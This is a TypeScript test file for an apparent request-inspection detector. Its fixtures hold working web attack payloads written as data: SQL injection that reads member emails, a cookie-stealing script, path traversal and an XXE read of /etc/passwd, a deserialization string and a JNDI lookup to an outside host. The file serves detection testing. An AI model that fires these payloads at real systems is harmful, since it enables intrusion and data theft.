import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { inspectCarried } from './inspect-carried.ts';

const READ = "abc' UNION SELECT email,name FROM members LIMIT 3,1-- -";

function found(part: string, text: string): string[] {
  return inspectCarried(part, text).map(
    ({ name, signs }) => `${name} ${[...new Set(signs.map(({ attack }) => attack))].join(' ')}`,
  );
}

describe('an attack is found in each part that pages read', () => {
  test.each([
    ['Cookie', `lang=ja; track=${READ}; _ga=GA1.2.3.4`, 'Cookie: track sqli'],
    ['Cookie', `track=${encodeURIComponent(READ)}`, 'Cookie: track sqli'],
    ['Cookie', 'a=1;+track=abc%2527+UNION+SELECT+email,name+FROM+members--+-', 'Cookie: track sqli'],
    ['Cookie', `${READ}`, 'Cookie sqli'],
    ['Cookie', String.raw`a=\x22; u=\x22><script>alert(document.cookie)</script>`, 'Cookie: u xss'],
    ['Cookie', 'lang=../../../../etc/passwd%00', 'Cookie: lang traversal'],
    ['Cookie', 'u=O:8:"Evil_Job":1:{s:3:"cmd"', 'Cookie: u deserialization'],
    ['Cookie: track', READ, 'Cookie: track sqli'],
    ['X-Forwarded-For', `192.0.2.1' AND SLEEP(5)-- -`, 'X-Forwarded-For sqli'],
    ['X-Forwarded-For', '${jndi:ldap://203.0.113.9/a}', 'X-Forwarded-For rce'],
    ['Body', `a=1&q=${encodeURIComponent(READ)}&b=2`, 'Body: q sqli'],
    ['Body', JSON.stringify({ user: { name: [READ] } }), 'Body: user.name sqli'],
    ['Body', JSON.stringify({ q: 'a', who: READ }).replaceAll('"', String.raw`\x22`), 'Body: who sqli'],
    ['Body', `{"q":"a","who":"${READ}`, 'Body sqli'],
    ['Body', `--x7\r\nContent-Disposition: form-data; name="q"\r\n\r\n${READ}\r\n--x7--\r\n`, 'Body: q sqli'],
    [
      'Body',
      '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>',
      'Body traversal',
    ],
    ['Body: note', READ, 'Body: note sqli'],
  ])('%s: %s', (part, text, expected) => {
    const [name = '', attack = ''] = [
      expected.slice(0, expected.lastIndexOf(' ')),
      expected.split(' ').at(-1),
    ];
    expect(found(part, text).some((each) => each.startsWith(`${name} `) && each.includes(attack))).toBe(true);
  });
});

const base64 = (text: string) => Buffer.from(text).toString('base64');

describe('nobody is accused for what honest pages set and honest people write', () => {
  test.each([
    'PHPSESSID=97b58dddec318a601a9cf4bc2da42e8a; eccube_session=Fe26.2**0a*b-c',
    '_ga=GA1.2.1234567890.1700000000; _gid=GA1.2.1.1; _ga_ABC123=GS1.1.1700.1.0.17.60.0.0; _gcl_au=1.1.9.9',
    '_fbp=fb.1.1700000000000.123456789; _fbc=fb.1.17.IwAR0-_x; __cf_bm=a.B_c-17-0-AY+/=; AWSALB=abc/+=',
    `cart=${base64('{"items":[{"id":12,"q":1}]}')}; wish=${encodeURIComponent('{"ids":[1,2,3],"name":"花子"}')}`,
    `jwt=eyJhbGciOiJIUzI1NiJ9.${base64('{"sub":1}')}.Ab-_9; XSRF-TOKEN=eyJpdiI6IkE9PSIsInZhbHVlIjoiQiJ9`,
    `optimizelySegments=${encodeURIComponent('{"172":"gc","173":"direct","174":"none"}')}; optimizelyBuckets=%7B%7D`,
    `mp_1_mixpanel=${encodeURIComponent('{"distinct_id": "1","$device_id": "2","$initial_referrer": "$direct","__mps": {},"__alias": "a"}')}`,
    `ci_session=${encodeURIComponent('a:3:{s:10:"session_id";s:4:"9f8e";s:10:"ip_address";s:9:"192.0.2.1";s:10:"user_agent";s:7:"Mozilla";}')}`,
    `_shop_session=BAh7CEkiD3Nlc3Npb25faWQGOgZFVEkiJTVm--${'0a'.repeat(20)}`,
    `last_search=${encodeURIComponent("men's union select committee")}; q=${encodeURIComponent('靴 & シャツ (赤) 100%')}`,
    `viewed=${encodeURIComponent('|12|34|56|')}; sort=price:asc; tz=Asia/Tokyo; sc=1920x1080; memo=a,b;;; x`,
    `OptanonConsent=${encodeURIComponent('isGpcEnabled=0&datestamp=Tue+Sep+22+2026+10:00:00+GMT+0900&groups=C0001:1,C0002:0&landingPath=https://a.shop.example/?a=1')}`,
    '_pk_ref.1.a=%5B%22%22%2C%22%22%2C17%2C%22https%3A%2F%2Fwww.search.example%2F%22%5D; intercom-id-x=1-2-3',
    'AMCV_1%40AdobeOrg=1687686476%7CMCIDTS%7C19000%7CMCMID%7C123%7CNONE; s_cc=true; s_sq=%5B%5BB%5D%5D',
    '__utmz=1.17.1.1.utmcsr=search|utmccn=(organic)|utmcmd=organic|utmctr=(not%20provided); __utma=1.2.3.4',
    'name=%8D%B2%93%A1; city=%93%8C%8B%9E; name2="山田 太郎"',
    'amplitude_id_1=eyJkZXZpY2VJZCI6ImEiLCJ1c2VySWQiOm51bGx9; _hjSession=eyJpZCI6IjEiLCJjIjoxN30=',
    'laravel_session=eyJpdiI6Ing9PSIsInZhbHVlIjoieSsvIiwibWFjIjoiMDAifQ%3D%3D; remember_web=1%7Ctoken%7C%242y%2410%24abc',
  ])('cookies: %s', (cookies) => {
    expect(found('Cookie', cookies)).toEqual([]);
  });

  test.each([
    '192.0.2.1',
    '192.0.2.1, 2001:db8::9, unknown',
    'for="[2001:db8::1]:443";proto=https;by=192.0.2.2',
  ])('addresses: %s', (text) => {
    expect(found('X-Forwarded-For', text)).toEqual([]);
  });

  test.each([
    `name=${encodeURIComponent('佐藤 花子')}&note=${encodeURIComponent("O'Brien -- please;\r\nselect one & union. <3")}&password=p4ss%21w0rd`,
    JSON.stringify({
      name: '佐藤',
      note: 'Tom & Jerry’s "best" -- ever; 50% off',
      items: [{ id: 1 }],
      ok: true,
    }),
    `--x7\r\nContent-Disposition: form-data; name="photo"; filename="a.jpg"\r\n\r\n' or 1=1-- -\r\n--x7--`,
    JSON.stringify({
      query: 'query Items($first: Int!) { items(first: $first) { id name } }',
      variables: { first: 5 },
    }),
  ])('body: %s', (text) => {
    expect(found('Body', text)).toEqual([]);
  });
});

test('what is found is kept as one byte a character, whatever JSON writes', () => {
  const [attack] = inspectCarried('Body', `{"q":"\\u8d64' UNION SELECT email,name FROM members-- -"}`);
  expect(attack?.value.startsWith('\xe8\xb5\xa4')).toBe(true);
});

test('anything at all is judged without a throw', () => {
  fc.assert(
    fc.property(
      fc.constantFrom('Cookie', 'Cookie: a', 'Body', 'Body: a', 'X-Forwarded-For'),
      fc.uint8Array({ maxLength: 300 }),
      (part, bytes) => {
        for (const { name } of inspectCarried(part, Buffer.from(bytes).toString('latin1'))) {
          expect(name.startsWith(part.split(':', 1)[0]!)).toBe(true);
        }
      },
    ),
  );
});
